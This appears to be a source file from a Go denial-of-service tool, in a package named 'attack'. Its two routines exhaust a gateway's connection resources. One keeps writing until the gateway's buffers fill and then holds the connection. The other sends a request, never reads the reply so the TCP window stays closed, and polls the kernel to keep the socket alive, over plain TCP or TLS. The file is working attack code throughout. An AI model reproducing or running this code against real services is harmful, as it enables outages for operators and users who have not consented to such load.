package attack

import (
	"context"
	"crypto/tls"
	"net"
	"time"

	"golang.org/x/sys/unix"
)

// pushBuffer bounds what the attacker's own kernel holds of an upload, in bytes, because only
// the gateway's buffers are of interest.
const pushBuffer = 64 << 10

// push sends until the gateway takes no more, and keeps the connection.
func (a *assault) push(ctx context.Context, c net.Conn, _ time.Time) {
	_ = c.(*net.TCPConn).SetWriteBuffer(pushBuffer)
	stop := context.AfterFunc(ctx, func() { _ = c.SetDeadline(time.Unix(1, 0)) })
	defer stop()
	if !a.job.Plain {
		t := tls.Client(c, a.tls)
		hctx, cancel := context.WithTimeout(ctx, 2*dialTimeout)
		err := t.HandshakeContext(hctx)
		cancel()
		if err != nil {
			a.count(ctx)
			return
		}
		c = t
	}
	block := make([]byte, 16<<10)
	for _, err := c.Write(a.job.Say); err == nil; {
		_, err = c.Write(block)
	}
	a.count(ctx)
}

// hold asks for data and reads none of it.
func (a *assault) hold(ctx context.Context, c net.Conn, _ time.Time) {
	raw := c.(*net.TCPConn)
	_ = c.SetDeadline(time.Now().Add(2 * dialTimeout))
	if !a.job.Plain {
		t := tls.Client(c, a.tls)
		if err := t.HandshakeContext(ctx); err != nil {
			a.count(ctx)
			return
		}
		c = t
	}
	if _, err := c.Write(a.job.Say); err != nil {
		a.count(ctx)
		return
	}
	for ctx.Err() == nil && established(raw) {
		select {
		case <-ctx.Done():
		case <-time.After(100 * time.Millisecond):
		}
	}
	a.count(ctx)
}

// established asks the kernel, because a read would open the window.
func established(c *net.TCPConn) bool {
	raw, err := c.SyscallConn()
	if err != nil {
		return false
	}
	const stateEstablished = 1 // include/net/tcp_states.h
	up := false
	err = raw.Control(func(fd uintptr) {
		info, err := unix.GetsockoptTCPInfo(int(fd), unix.IPPROTO_TCP, unix.TCP_INFO)
		up = err == nil && info.State == stateEstablished
	})
	return err == nil && up
}
